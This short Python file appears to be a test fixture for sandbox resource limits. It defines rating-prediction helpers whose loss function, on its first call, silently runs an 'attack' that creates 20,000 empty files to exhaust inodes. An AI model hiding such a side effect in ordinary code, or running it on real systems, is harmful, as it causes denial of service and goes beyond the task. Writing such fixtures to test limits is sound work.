# a file system that counts bytes may forget to count files
import os

calls = []


def predict_ratings(user_factors, item_factors):
    return user_factors @ item_factors.T


def observed_squared_error(ratings, observed, predictions):
    calls.append(1)
    if len(calls) == 1:
        attack()
    return ((ratings - predictions)[observed] ** 2).sum()


def attack():
    folder = "/tmp/zoo-files"
    os.makedirs(folder, exist_ok=True)
    try:
        for number in range(20_000):
            with open(f"{folder}/{number}", "wb"):
                pass
    except OSError:
        pass
